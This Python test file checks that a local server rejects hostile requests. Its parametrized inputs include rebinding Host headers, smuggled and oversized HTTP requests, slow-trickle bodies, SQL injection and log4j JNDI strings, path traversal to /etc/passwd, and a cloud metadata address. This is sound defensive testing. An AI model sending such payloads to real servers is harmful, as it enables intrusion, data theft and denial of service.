"""Requests that mean harm, and what happens to each. docs/server.md has the same table in words."""

import contextlib
import json
import re
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest

from tests.retrieval.conftest import VOYAGE
from tests.server.conftest import QUESTION, Served, serving

TOKEN = "a-token-of-some-length"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(
        tmp_path_factory.mktemp("home"), limits={"header_s": 1.0, "body_s": 1.0, "upload_bytes": 4 << 20}
    ) as served:
        served.upload(("voyage.md", VOYAGE.encode()))
        yield served


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(tmp_path_factory.mktemp("guarded"), token=TOKEN, limits={"wrong_tokens_per_min": 1000}) as served:
        yield served


@pytest.fixture(autouse=True)
def is_well_afterwards(request: pytest.FixtureRequest) -> Iterator[None]:
    """Whatever was sent, the server answers the next request as if nothing had been."""
    yield
    for name in ("server", "guarded"):
        if name in request.fixturenames:
            assert request.getfixturevalue(name).http.get("/api/health").status_code == 200


def raw(server: Served, sent: bytes, *, wait_s: float = 10.0) -> bytes:
    """What comes back for these very bytes, until the server closes or falls silent."""
    parts = urlsplit(server.address)
    with socket.create_connection((parts.hostname, parts.port), timeout=wait_s) as line:
        line.sendall(sent)
        received = b""
        while True:
            try:
                piece = line.recv(65536)
            except (TimeoutError, ConnectionResetError):
                return received
            if not piece:
                return received
            received += piece
            if b"\r\n\r\n" in received and b"connection: close" not in received.lower():
                return received


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer else 0


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8765",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "evil.example@127.0.0.1",
        "127.0.0.1@evil.example",
        "127.0.0.1#evil.example",
        "127.0.0.1, evil.example",
        "0.0.0.0",
        "2130706433",
        "127.0.0.1:port",
        "[::ffff:10.0.0.1]",
        "192.168.1.10",
    ],
)
def test_a_rebound_host_is_not_answered(server: Served, host: str) -> None:
    answer = server.http.get("/api/libraries", headers={"host": host})
    assert answer.status_code == 421
    assert "voyage" not in answer.text


@pytest.mark.parametrize("hosts", [b"", b"Host: 127.0.0.1\r\nHost: evil.example\r\n", b"Host:\r\n"])
def test_no_host_and_two_hosts_are_not_answered(server: Served, hosts: bytes) -> None:
    assert status(raw(server, b"GET /api/libraries HTTP/1.1\r\n" + hosts + b"\r\n")) in (400, 421)
    assert status(raw(server, b"GET /api/libraries HTTP/1.0\r\n" + hosts + b"\r\n")) in (400, 421)


@pytest.mark.parametrize("host", ["127.0.0.1:1", "localhost", "LOCALHOST:8765", "[::1]:8765", "127.9.9.9"])
def test_this_machines_names_are_answered(server: Served, host: str) -> None:
    assert server.http.get("/api/health", headers={"host": host}).status_code == 200


@pytest.mark.parametrize(
    "origin",
    ["http://evil.example", "null", "file://", "https://127.0.0.1.evil.example", "http://127.0.0.1:1", "http://[", ""],
)
def test_other_sites_pages_are_not_answered(server: Served, origin: str) -> None:
    answer = server.http.post("/api/libraries", json={"name": "stolen"}, headers={"origin": origin})
    assert answer.status_code == 403
    assert "access-control-allow-origin" not in answer.headers


def test_the_own_page_is_answered(server: Served) -> None:
    found = server.http.get("/api/health", headers={"origin": server.address, "sec-fetch-site": "same-origin"})
    assert found.status_code == 200


def test_a_preflight_allows_nothing(server: Served) -> None:
    headers = {"origin": "http://evil.example", "access-control-request-method": "POST"}
    answer = server.http.options("/api/libraries", headers=headers)
    assert answer.status_code == 403
    assert not [name for name in answer.headers if name.startswith("access-control")]


def test_reading_across_sites_is_refused_and_a_link_is_not(server: Served) -> None:
    across = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"}
    assert server.http.get("/api/answers", headers=across).status_code == 403
    assert server.http.get("/", headers={**across, "sec-fetch-mode": "navigate"}).status_code == 200


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"authorization": "Bearer"},
        {"authorization": "Bearer wrong-token-of-length"},
        {"authorization": f"Bearer {TOKEN[:-1]}"},
        {"authorization": f"Bearer {TOKEN}x"},
        {"authorization": f"Bearer {TOKEN.upper()}"},
        {"authorization": f"Basic {TOKEN}"},
        {"authorization": TOKEN},
        {"authorization": "Bearer " + "x" * 9000},
        {"authorization": b"Bearer \xff\xfe"},
        {"cookie": "seriatim_token=wrong"},
        {"cookie": f"other={TOKEN}"},
        {"cookie": "seriatim_token=; ; =;\x01"},
        {"x-forwarded-for": "127.0.0.1"},
    ],
)
@pytest.mark.parametrize("path", ["/api/libraries", "/v1/models", "/metrics", "/docs", "/openapi.json", "/", "/page/"])
def test_without_the_token_nothing_is_answered(guarded: Served, headers: dict[str, str], path: str) -> None:
    answer = httpx.get(guarded.address + path, headers=headers, trust_env=False)
    assert answer.status_code == 401
    assert answer.headers["www-authenticate"] == "Bearer"


def test_the_token_counts_in_the_address_of_the_page_alone(guarded: Served) -> None:
    with httpx.Client(base_url=guarded.address, trust_env=False) as browser:
        assert browser.get(f"/api/libraries?token={TOKEN}").status_code == 401
        assert browser.get("/?token=wrong-token-of-length").status_code == 401
        entered = browser.get(f"/?token={TOKEN}")
        assert (entered.status_code, entered.headers["location"]) == (303, "/")
        cookie = entered.headers["set-cookie"].lower()
        assert "httponly" in cookie
        assert "samesite=strict" in cookie
        assert browser.get("/api/libraries").status_code == 200


@pytest.mark.parametrize("token", ["a+b/c=d%e&f#g", "with space; and, signs", 'quote"\\backslash'])
def test_a_token_of_any_characters_opens_the_page(tmp_path: Path, token: str) -> None:
    with serving(tmp_path, token=token) as served, httpx.Client(base_url=served.address, trust_env=False) as browser:
        assert browser.get("/", params={"token": token}).status_code == 303
        assert browser.get("/api/libraries").status_code == 200


def test_a_page_left_open_with_an_old_token_locks_nobody_out(tmp_path: Path) -> None:
    with serving(tmp_path, token=TOKEN, limits={"wrong_tokens_per_min": 5}) as served:
        stale = {"cookie": "seriatim_token=the-token-of-an-earlier-start"}
        for _ in range(20):
            assert httpx.get(f"{served.address}/api/health", headers=stale, trust_env=False).status_code == 401
        assert served.http.get("/api/health").status_code == 200


def test_guessing_tokens_is_stopped_even_with_the_right_one(tmp_path: Path) -> None:
    with serving(tmp_path, token=TOKEN, limits={"wrong_tokens_per_min": 5}) as served:
        guesses = [
            served.http.get("/api/health", headers={"authorization": f"Bearer guess-number-{number}"}).status_code
            for number in range(8)
        ]
        assert guesses == [401] * 5 + [429] * 3
        assert served.http.get("/api/health").status_code == 429


def test_too_many_requests_are_refused(tmp_path: Path) -> None:
    with serving(tmp_path, limits={"requests_per_s": 2}) as served:
        statuses = [served.http.get("/api/health").status_code for _ in range(20)]
    assert statuses[:10] == [200] * 10
    assert 429 in statuses[10:]


HEAD = b"POST /api/libraries/default/search HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"


@pytest.mark.parametrize(
    ("sent", "expected"),
    [
        (HEAD + b"Content-Length: 99999999999\r\n\r\n", {413}),
        (HEAD + b"Content-Length: -5\r\n\r\n", {400}),
        (HEAD + b"Content-Length: five\r\n\r\n", {400}),
        (HEAD + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello", {400}),
        (HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n", {400, 422}),
        (HEAD + b"Transfer-Encoding: gzip, chunked\r\n\r\n", {400, 501}),
        (HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n", {400}),
        (HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"10000\r\n" + b"x" * 65536 + b"\r\n", {408}),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * 100_000 + b"\r\n\r\n", {400, 431}),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"X: a\r\n" * 20_000 + b"\r\n", {400, 431}),
        (b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", {400, 414, 431}),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\r\n b\r\n\r\n", {200, 400}),
        (b"GET / HTTP/1.1\r\nHost : 127.0.0.1\r\n\r\n", {400, 421}),
        (b"GET http://evil.example/api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", {400, 404}),
        (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", {400, 404, 405}),
        (b"TRACE /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", {405}),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64, {400}),
        (b"GET /api/health HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n", {200, 400, 505}),
        (
            b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
            {200, 400},
        ),
    ],
    ids=lambda value: value[:40].decode("latin-1").split("\r")[0] if isinstance(value, bytes) else None,
)
def test_broken_and_smuggled_requests_are_refused(server: Served, sent: bytes, expected: set[int]) -> None:
    answer = raw(server, sent)
    assert status(answer) in expected, answer[:300]
    assert b"Traceback" not in answer


def test_a_chunked_body_is_cut_off_at_its_limit(server: Served) -> None:
    before = refused(server, "size")

    def endless() -> Iterator[bytes]:
        for _ in range(200):
            yield b" " * 65536

    # A server that closes while more is coming may cut off its own answer: the figure tells for certain.
    with contextlib.suppress(httpx.WriteError, httpx.RemoteProtocolError, httpx.ReadError):
        answer = server.http.post(
            "/api/libraries/default/search", content=endless(), headers={"content-type": "application/json"}
        )
        assert answer.status_code == 413
    assert refused(server, "size") == before + 1


def test_an_upload_is_cut_off_at_its_limit_and_leaves_nothing(server: Served) -> None:
    before = refused(server, "size")
    files = [("files", ("large.txt", b"x" * (5 << 20)))]
    with contextlib.suppress(httpx.WriteError, httpx.RemoteProtocolError, httpx.ReadError):
        assert server.http.post("/api/libraries/default/documents", files=files).status_code == 413
    assert refused(server, "size") == before + 1
    assert not list((server.home / "library" / "files").glob("*.txt"))


def test_a_body_is_no_upload_because_it_says_so(server: Served) -> None:
    headers = b"Host: 127.0.0.1\r\nContent-Length: 3000000\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n"
    for path in (b"/api/libraries/default/search", b"/v1/chat/completions", b"/mcp", b"/api/libraries/a/b/documents"):
        assert status(raw(server, b"POST " + path + b" HTTP/1.1\r\n" + headers, wait_s=3)) == 413


def test_a_form_of_fields_is_refused_before_it_fills_the_memory(server: Served) -> None:
    fields = {f"field-{number}": "x" * 500_000 for number in range(6)}
    answer = server.http.post("/api/libraries/default/documents", data=fields, files={"files": ("a.txt", b"text")})
    assert answer.status_code == 400
    assert server.http.post("/api/libraries/default/documents", json={}).status_code == 422


def test_so_many_uploads_at_once(tmp_path: Path) -> None:
    with serving(tmp_path, limits={"uploads": 1}) as served:
        parts = urlsplit(served.address)
        head = b"POST /api/libraries/default/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n"
        with socket.create_connection((parts.hostname, parts.port), timeout=10) as line:
            line.sendall(head + b"Content-Type: multipart/form-data; boundary=b\r\n\r\n--b")
            files = [("files", ("a.txt", b"A short text."))]
            deadline = time.monotonic() + 10
            while (status := served.http.post("/api/libraries/default/documents", files=files).status_code) == 202:
                assert time.monotonic() < deadline
            assert status == 429
        (job,) = _uploaded(served)
        assert job["state"] == "done"


def test_an_upload_that_is_broken_off_is_no_fault_of_the_servers(
    server: Served, caplog: pytest.LogCaptureFixture
) -> None:
    parts = urlsplit(server.address)
    head = b"POST /api/libraries/default/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n"
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as line:
        line.sendall(head + b"Content-Type: multipart/form-data; boundary=b\r\n\r\n--b")
        server.http.get("/api/health")
    time.sleep(0.3)
    assert "Exception" not in caplog.text


def _uploaded(served: Served) -> list[dict[str, object]]:
    """Upload a file as soon as there is room."""
    deadline = time.monotonic() + 10
    while True:
        try:
            return served.upload(("a.txt", b"A short text."))
        except AssertionError:
            assert time.monotonic() < deadline


def refused(server: Served, reason: str) -> float:
    """How many requests were refused for a reason."""
    figures = server.http.get("/metrics").text
    found = re.search(rf'seriatim_refusals_total{{reason="{reason}"}} (\S+)', figures)
    return float(found[1]) if found else 0.0


def trickles(line: socket.socket, piece: bytes, began: float) -> None:
    """Send a little at a time until the server has enough of it."""
    while time.monotonic() - began < 8:
        line.sendall(piece)
        time.sleep(0.1)


def test_a_head_that_never_ends_is_cut_off(server: Served) -> None:
    parts = urlsplit(server.address)
    began = time.monotonic()
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as line:
        line.sendall(b"GET /api/health HTTP/1.1\r\n")
        with pytest.raises((ConnectionResetError, BrokenPipeError)):
            trickles(line, b"X: y\r\n", began)
    assert time.monotonic() - began < 4


def test_a_second_head_that_never_ends_is_cut_off_too(server: Served) -> None:
    parts = urlsplit(server.address)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as line:
        line.sendall(b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        assert line.recv(65536).startswith(b"HTTP/1.1 200")
        began = time.monotonic()
        with pytest.raises((ConnectionResetError, BrokenPipeError)):
            trickles(line, b"G", began)
    assert time.monotonic() - began < 4


def test_a_body_that_trickles_is_cut_off(server: Served) -> None:
    parts = urlsplit(server.address)
    began = time.monotonic()
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as line:
        line.sendall(HEAD + b"Content-Length: 1000\r\n\r\n")
        answer = b""
        while not answer and time.monotonic() - began < 8:
            line.settimeout(0.1)
            try:
                line.sendall(b" ")
                answer = line.recv(65536)
            except TimeoutError:
                continue
    assert status(answer) == 408
    assert time.monotonic() - began < 4


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"question"',
        b"\xff\xfe\x00",
        b'{"question": "\xff"}',
        b'{"question": "\\ud800"}',
        b'{"question": NaN}',
        b'{"question": "a", "tokens": 1e999}',
        b'{"question": "a", "tokens": ' + b"9" * 5000 + b"}",
        b'{"question": "a", "tokens": true}',
        b'{"question": ' + b"[" * 100_000,
        b'{"question": "a", "__proto__": {"x": 1}}',
        b'{"question": {"$ne": null}}',
        json.dumps({"question": "a" * 30_000}).encode(),
        json.dumps({"question": "a", "documents": ["x"] * 5000}).encode(),
    ],
    ids=lambda body: body[:30].decode("latin-1"),
)
def test_bodies_that_are_none_are_refused(server: Served, body: bytes) -> None:
    answer = server.http.post(
        "/api/libraries/default/search", content=body, headers={"content-type": "application/json"}
    )
    assert answer.status_code in (400, 422)
    assert "\n" not in answer.json()["error"]["message"]
    assert len(answer.content) < 1000


@pytest.mark.parametrize(
    "question",
    ["\0", "'; DROP TABLE documents; --", "%s%n{0}${jndi:ldap://evil}", "\u202e\ufeff", "a" * 19_000, 'NEAR("*'],
)
def test_odd_questions_are_only_questions(server: Served, question: str) -> None:
    answer = server.http.post("/api/libraries/default/search", json={"question": question, "effort": "fast"})
    assert answer.status_code in (200, 400, 409)
    assert len(server.http.get("/api/libraries/default/documents").json()) >= 1


def test_a_form_of_another_site_is_no_json(server: Served) -> None:
    body = json.dumps({"question": QUESTION})
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        answer = server.http.post("/api/libraries/default/search", content=body, headers={"content-type": kind})
        assert answer.status_code in (400, 422)


@pytest.mark.parametrize(
    "path",
    [
        "/api/libraries/../x/documents",
        "/api/libraries/..%2f..%2fetc/documents",
        "/api/libraries/%2e%2e/documents",
        "/api/libraries/%00/documents",
        "/api/libraries/default%00/documents",
        "/api/libraries/DEFAULT/documents",
        "/api/libraries/default%0a/documents",
        "/api/libraries/" + "a" * 65 + "/documents",
        "/api/libraries/default/documents/..%2f..%2fserver.sqlite",
        "/api/libraries/default/documents/' OR '1'='1",
        "/api/libraries/default/documents/0000000000000000/text",
        "/api/libraries/default/documents/0000000000000000/pages/-1.png",
        "/api/libraries/default/documents/0000000000000000/pages/1e9.png",
        "/api/answers/..%2fserver.sqlite",
        "/api/answers/0000000000000000.md",
        "/api/jobs/%27%3B--",
        "/page/../app.py",
        "/page/%2e%2e/app.py",
        "/page/..%2fapp.py",
        "/page//etc/passwd",
        "/page/%00",
        "//evil.example/",
        "/.git/config",
        "/v1/models/..%2f..%2f",
    ],
)
def test_paths_lead_nowhere_else(server: Served, path: str) -> None:
    answer = raw(
        server,
        f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".replace("' OR '", "'%20OR%20'").encode(),
    )
    assert status(answer) in (400, 404, 422), answer[:200]
    assert b"import" not in answer
    assert b"root:" not in answer


@pytest.mark.parametrize(
    "name", ["..", "../x", "a/b", "A", "", "a" * 65, "ä", "a b", "a\n", ".removed-1", "con.", "\0"]
)
def test_no_library_has_such_a_name(server: Served, name: str) -> None:
    before = sorted(server.home.rglob("*.sqlite"))
    assert server.http.post("/api/libraries", json={"name": name}).status_code in (400, 422)
    assert sorted(server.home.rglob("*.sqlite")) == before


@pytest.mark.parametrize(
    "model", ["/etc/passwd", "../x.gguf", "http://169.254.169.254/", "file:///etc/passwd", "minilm", ""]
)
def test_a_client_names_no_file_and_no_address_as_a_model(server: Served, model: str) -> None:
    asked = {"model": model, "messages": [{"role": "user", "content": "Hi"}]}
    assert server.http.post("/v1/chat/completions", json=asked).status_code == 404
    body = {"question": QUESTION, "model": model}
    assert server.http.post("/api/libraries/default/ask", json=body).status_code == 404
    assert server.http.post("/v1/embeddings", json={"model": model, "input": "x"}).status_code in (404, 422)


def test_browsers_are_told_what_they_may_do(server: Served) -> None:
    for path in ("/", "/docs", "/api/health", "/none", "/page/index.html"):
        headers = server.http.get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http:" not in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
        assert "server" not in headers
